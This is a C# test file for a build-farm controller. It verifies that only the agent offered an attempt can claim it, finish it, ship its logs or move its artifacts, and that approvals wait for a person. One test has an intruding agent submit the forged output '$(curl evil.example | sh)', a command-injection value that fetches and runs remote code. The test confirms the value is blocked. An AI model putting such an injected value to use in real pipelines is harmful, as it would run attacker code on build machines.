using Farm.Controller.Dispatch;
using Farm.Controller.Executions;
using Farm.Controller.Pipelines;
using Farm.Controller.Security;
using Farm.Core.Executions;
using Microsoft.Extensions.DependencyInjection;

namespace Farm.Controller.Tests;

/// <summary>
/// An attempt is its agent's: another agent's claim, result, log, artifacts and heartbeat are
/// refused by the execution (and the dispatcher), change nothing, and are written to the audit log;
/// an approval is finished by no agent at all.
/// </summary>
public sealed class AttemptOwnershipTests
{
    private const string Pipeline = """
        name: owned
        stages:
          - name: Build
            actions:
              - name: compile
                type: shell
                namespace: Build
                runsOn: [linux]
                commands: [ "make" ]
                outputArtifacts:
                  - name: bin
                    paths: [ "out/**" ]
          - name: Gate
            actions:
              - name: sign-off
                type: approval
          - name: Deploy
            actions:
              - name: push
                type: shell
                runsOn: [linux]
                inputArtifacts: [ bin ]
                commands: [ "push #{Build.tag}" ]
        """;

    private static readonly ArtifactRef Bin = new("bin", new string('a', 64), 3);

    private static AttemptResult Built(string attemptId, string tag) =>
        new(attemptId, true, 0, null, new Dictionary<string, string> { ["tag"] = tag }, [Bin]);

    /// <summary>The owner (a1, linux) and an intruder (b1) that no action of the pipeline matches.</summary>
    private static async Task<(GrainCluster Cluster, FakeAgent Owner, IExecutionGrain Execution, Job Build)> StartAsync()
    {
        var cluster = await GrainCluster.StartAsync();
        var owner = new FakeAgent();
        await owner.ConnectAsync(cluster, "a1", ["linux"]);
        await new FakeAgent().ConnectAsync(cluster, "b1", ["windows"]);
        await cluster.Grains.GetGrain<IPipelineGrain>("owned").Apply(Pipeline);
        var execution = cluster.Grains.GetGrain<IExecutionGrain>((await cluster.Grains.GetGrain<IPipelineGrain>("owned").StartManually([])).ExecutionId!);
        return (cluster, owner, execution, await owner.NextOfferAsync());
    }

    private static async Task<ExecutionRun> UntilAsync(IExecutionGrain grain, Func<ExecutionRun, bool> condition)
    {
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(15));
        var run = (await grain.Get())!;
        while (!condition(run))
        {
            timeout.Token.ThrowIfCancellationRequested();
            run = (await grain.WaitForChange(run.Revision, TimeSpan.FromSeconds(1)))!;
        }

        return run;
    }

    private static async Task<IReadOnlyList<AuditRecord>> RefusalsAsync(GrainCluster cluster, string agent) =>
        (await cluster.SiloServices.GetRequiredService<AuditLog>().ListAsync(100))
            .Where(r => r.Actor == agent && r.Detail.StartsWith("refused: ", StringComparison.Ordinal))
            .Reverse()
            .ToList();

    [Fact]
    public async Task Claim_and_result_from_an_agent_the_attempt_was_not_offered_to_are_refused_audited_and_change_nothing()
    {
        var (cluster, _, execution, build) = await StartAsync();
        await using var __ = cluster;

        var queuedClaim = await execution.Claim(build.AttemptId, "b1");
        var ownerClaim = await execution.Claim(build.AttemptId, "a1");
        var resumeClaim = await execution.Claim(build.AttemptId, "b1");
        var forged = await execution.Finish("b1", Built(build.AttemptId, "forged"));
        var afterForgery = (await execution.Get())!.Stages[0].Actions[0];
        var own = await execution.Finish("a1", Built(build.AttemptId, "v1"));
        var gate = await UntilAsync(execution, r => r.Stages[1].Actions[0].Approval is not null);

        Assert.False(queuedClaim);
        Assert.True(ownerClaim);
        Assert.False(resumeClaim);
        Assert.Equal(AttemptAccess.NotOffered, forged);
        Assert.Equal((RunStatus.InProgress, "a1"), (afterForgery.Status, afterForgery.Agent));
        Assert.Equal(AttemptAccess.Granted, own);
        Assert.Equal((RunStatus.Succeeded, "v1"), (gate.Stages[0].Actions[0].Status, gate.Stages[0].Actions[0].Outputs["tag"]));
        Assert.Equal(
            [("AgentClaim", build.AttemptId), ("AgentClaim", build.AttemptId), ("AgentFinish", build.AttemptId)],
            (await RefusalsAsync(cluster, "b1")).Select(r => (r.Action, r.Target)));
        Assert.Equal($"refused: attempt {build.AttemptId} was not offered to agent 'b1'", (await RefusalsAsync(cluster, "b1"))[2].Detail);
    }

    [Fact]
    public async Task Forged_result_cannot_put_output_variables_into_a_later_action()
    {
        var (cluster, owner, execution, build) = await StartAsync();
        await using var __ = cluster;
        await execution.Claim(build.AttemptId, "a1");

        await execution.Finish("b1", Built(build.AttemptId, "$(curl evil.example | sh)"));
        await execution.Finish("a1", Built(build.AttemptId, "v1"));
        await UntilAsync(execution, r => r.Stages[1].Actions[0].Approval is not null);
        await execution.Decide("Gate", "sign-off", true, "dave", null);
        var push = await owner.NextOfferAsync();

        Assert.Equal("Deploy", push.Stage);
        Assert.Equal(["push v1"], push.Action.Commands);
    }

    [Fact]
    public async Task No_agent_can_finish_an_approval_and_it_still_waits_for_a_person()
    {
        var (cluster, _, execution, build) = await StartAsync();
        await using var __ = cluster;
        await execution.Claim(build.AttemptId, "a1");
        await execution.Finish("a1", Built(build.AttemptId, "v1"));
        var approval = (await UntilAsync(execution, r => r.Stages[1].Actions[0].Approval is not null)).Stages[1].Actions[0].AttemptId!;

        var byItsNeighbour = await execution.Finish("a1", new AttemptResult(approval, true, 0, null, [], []));
        var byAnother = await execution.Finish("b1", new AttemptResult(approval, true, 0, null, [], []));
        var claimed = await execution.Claim(approval, "b1");
        var waiting = (await execution.Get())!.Stages[1].Actions[0];
        var decided = await execution.Decide("Gate", "sign-off", true, "dave", "ship it");

        Assert.Equal((AttemptAccess.NotOffered, AttemptAccess.NotOffered, false), (byItsNeighbour, byAnother, claimed));
        Assert.Equal((RunStatus.InProgress, null), (waiting.Status, waiting.Approval!.Approved));
        Assert.Equal(("dave", "ship it"), (decided.Run!.Stages[1].Actions[0].Approval!.DecidedBy, decided.Run.Stages[1].Actions[0].Approval!.Comment));
        Assert.Equal([("AgentFinish", approval)], (await RefusalsAsync(cluster, "a1")).Select(r => (r.Action, r.Target)));
        Assert.Equal([("AgentFinish", approval), ("AgentClaim", approval)], (await RefusalsAsync(cluster, "b1")).Select(r => (r.Action, r.Target)));
        Assert.StartsWith($"refused: attempt {approval} runs in the controller (approval action)",
            (await RefusalsAsync(cluster, "a1"))[0].Detail);
    }

    [Fact]
    public async Task Only_the_agent_offered_an_attempt_may_ship_its_log_upload_or_download_and_only_its_inputs()
    {
        var (cluster, owner, execution, build) = await StartAsync();
        await using var __ = cluster;
        await execution.Claim(build.AttemptId, "a1");
        await execution.Finish("a1", Built(build.AttemptId, "v1"));
        await UntilAsync(execution, r => r.Stages[1].Actions[0].Approval is not null);
        await execution.Decide("Gate", "sign-off", true, "dave", null);
        // Offered, not yet claimed: the agent fetches inputs and opens its log as soon as it accepts.
        var push = (await owner.NextOfferAsync()).AttemptId;
        var other = new string('b', 64);

        var ownLog = await execution.Authorize(push, "a1", AttemptUse.ShipLog, null);
        var ownInput = await execution.Authorize(push, "a1", AttemptUse.DownloadArtifact, Bin.Sha256);
        var notAnInput = await execution.Authorize(push, "a1", AttemptUse.DownloadArtifact, other);
        var log = await execution.Authorize(push, "b1", AttemptUse.ShipLog, null);
        var upload = await execution.Authorize(push, "b1", AttemptUse.UploadArtifact, null);
        var download = await execution.Authorize(push, "b1", AttemptUse.DownloadArtifact, Bin.Sha256);
        var heartbeat = await execution.Authorize(push, "b1", AttemptUse.Heartbeat, null);
        var finishedAttempt = await execution.Authorize(build.AttemptId, "b1", AttemptUse.UploadArtifact, null);
        var unknown = await execution.Authorize(build.AttemptId[..^1] + "9", "a1", AttemptUse.ShipLog, null);

        Assert.Equal((AttemptAccess.Granted, AttemptAccess.Granted, AttemptAccess.NotAnInput), (ownLog, ownInput, notAnInput));
        Assert.Equal([AttemptAccess.NotOffered, AttemptAccess.NotOffered, AttemptAccess.NotOffered, AttemptAccess.NotOffered, AttemptAccess.NotOffered],
            [log, upload, download, heartbeat, finishedAttempt]);
        Assert.Equal(AttemptAccess.Unknown, unknown);
        Assert.Equal([("AgentDownloadArtifact", push, $"refused: archive {other} is not an input of attempt {push}")],
            (await RefusalsAsync(cluster, "a1")).Select(r => (r.Action, r.Target, r.Detail)));
        Assert.Equal(
            [("AgentShipLog", push), ("AgentUploadArtifact", push), ("AgentDownloadArtifact", push), ("AgentHeartbeat", push), ("AgentUploadArtifact", build.AttemptId)],
            (await RefusalsAsync(cluster, "b1")).Select(r => (r.Action, r.Target)));
    }
}
